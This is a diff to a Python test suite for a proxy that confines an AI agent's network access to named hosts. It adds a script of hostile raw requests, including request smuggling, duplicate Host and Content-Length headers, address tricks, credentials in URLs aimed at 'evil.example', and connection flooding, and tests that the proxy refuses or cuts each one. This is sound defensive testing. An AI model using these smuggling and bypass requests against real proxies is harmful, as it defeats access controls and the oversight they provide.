@@ -40,11 +40,13 @@ class Server:
 
     def __init__(self) -> None:
         self.paths: list[str] = []
-        paths = self.paths
+        self.hosts: list[str] = []  # as the requests name it
+        paths, hosts = self.paths, self.hosts
 
         class Handler(BaseHTTPRequestHandler):
             def do_GET(self) -> None:
                 paths.append(self.path)
+                hosts.append(self.headers["Host"])
                 self.send_response(200)
                 self.end_headers()
                 self.wfile.write(b"hello")
@@ -142,6 +144,86 @@ def test_an_agent_reaches_only_the_named_hosts(plan_repo: PlanRepo, server: Serv
     assert plan_repo.has_happened("refused", tool="network", command="evil.example:443")
     assert "evil.example:443" in result.out
     assert "only named hosts: checks, implementer" in result.out
+
+
+# Sends the proxy what no program would, and prints how it answers: a status, or 0 if it hangs up.
+HOSTILE = """
+import os, socket, sys, urllib.parse
+port, other = sys.argv[1:]
+proxy = urllib.parse.urlsplit(os.environ["http_proxy"])
+def connected():
+    client = socket.create_connection((proxy.hostname, proxy.port), 20)
+    client.settimeout(20)
+    return client
+def send(name, *lines, more=""):
+    data = "\\r\\n".join([*lines, "", more]).format(port=port, other=other).encode()
+    answer = b""
+    with connected() as client:
+        try:
+            client.sendall(data)
+            while piece := client.recv(65536):
+                answer += piece
+        except ConnectionError:
+            pass
+    print(name, answer[9:12].decode() or "0", answer.count(b"HTTP/1."), flush=True)
+hello = "GET http://127.0.0.1:{port}/"
+second = "GET /smuggled HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n"
+send("neighbour", "CONNECT 127.0.0.2:{port} HTTP/1.1", "")
+send("neighbour-v6", "CONNECT [::ffff:127.0.0.1]:{port} HTTP/1.1", "")
+send("short-address", "CONNECT 127.1:{port} HTTP/1.1", "")
+send("dot", "GET http://LocalHost.:{port}/dot HTTP/1.1", "")
+send("refused-dot", "CONNECT EVIL.example.:443 HTTP/1.1", "")
+send("two-dots", "CONNECT localhost..:{port} HTTP/1.1", "")
+send("login", "GET http://127.0.0.1:{port}@127.0.0.1:{other}/ HTTP/1.1", "")
+send("secret-login", "GET http://ada:secret@evil.example/ HTTP/1.1", "")
+send("header", hello + "header HTTP/1.1", "Host: evil.example", "Host: other.example", "")
+send("spaced-header", hello + "spaced HTTP/1.1", "Host : evil.example", "")
+send("second", hello + "first HTTP/1.1", "Connection: keep-alive", "", more=second)
+send("folded", hello + "folded HTTP/1.1", "X: y", " Content-Length: 1000", "", more=second)
+send("spaced-length", hello + "length HTTP/1.1", "Content-Length : 1000", "", more=second)
+send("two-lengths", hello + "lengths HTTP/1.1", "Content-Length: 0", "Content-Length: 1000", "", more=second)
+send("chunks", hello + "chunks HTTP/1.1", "Transfer-Encoding: chunked", "", more="0\\r\\n\\r\\n" + second)
+send("version", hello + "version HTTP/2.0", "")
+send("no-end", hello + "large HTTP/1.1", "X: " + "y" * 100_000, "")
+idle = [connected() for _ in range(900)]
+for client in idle:
+    client.close()
+send("after-idle", hello + "idle HTTP/1.1", "")
+"""
+ANSWERED = {"dot": "/dot", "header": "/header", "second": "/first", "after-idle": "/idle"}
+FORBIDDEN = {
+    "neighbour": "127.0.0.2:{port}",
+    "neighbour-v6": "::ffff:127.0.0.1:{port}",
+    "short-address": "127.1:{port}",
+    "refused-dot": "evil.example:443",
+    "two-dots": "localhost..:{port}",
+    "login": "127.0.0.1:{other}",
+    "secret-login": "evil.example:80",
+}
+CUT = ("spaced-header", "folded", "spaced-length", "two-lengths", "chunks", "version", "no-end")
+
+
+@needs_box
+def test_hostile_requests_reach_nothing_else(plan_repo: PlanRepo, server: Server) -> None:
+    """Whatever is sent to the proxy: other hosts are refused and logged, and one connection is one plain request."""
+    other = Server()
+    (plan_repo.folder / "hostile.py").write_text(HOSTILE)
+    port, other_port = (host.partition(":")[2] for host in (server.host, other.host))
+    try:
+        limit(plan_repo, "model", server.host, f"localhost:{port}")
+        result = work(plan_repo, f"{sys.executable} {plan_repo.folder}/hostile.py {port} {other_port}")
+    finally:
+        other.close()
+    said = plan_repo.repo.git("show", "HEAD:said.txt")
+    assert (result.code, codes(plan_repo)) == (0, ["0"]), said
+    answers = {name: (int(status), int(count)) for name, status, count in map(str.split, said.splitlines())}
+    expected = {**dict.fromkeys(ANSWERED, (200, 1)), **dict.fromkeys(FORBIDDEN, (403, 1)), **dict.fromkeys(CUT, (0, 0))}
+    assert answers == expected
+    assert (server.paths, other.paths) == (list(ANSWERED.values()), [])
+    assert server.hosts == [f"localhost:{port}", *[server.host] * 3]  # and not what the request says
+    refused = [line.split()[1] for line in log(plan_repo).splitlines() if line.startswith("refused")]
+    assert refused == [host.format(port=port, other=other_port) for host in FORBIDDEN.values()]
+    assert "secret" not in log(plan_repo)
 
 
 @needs_box
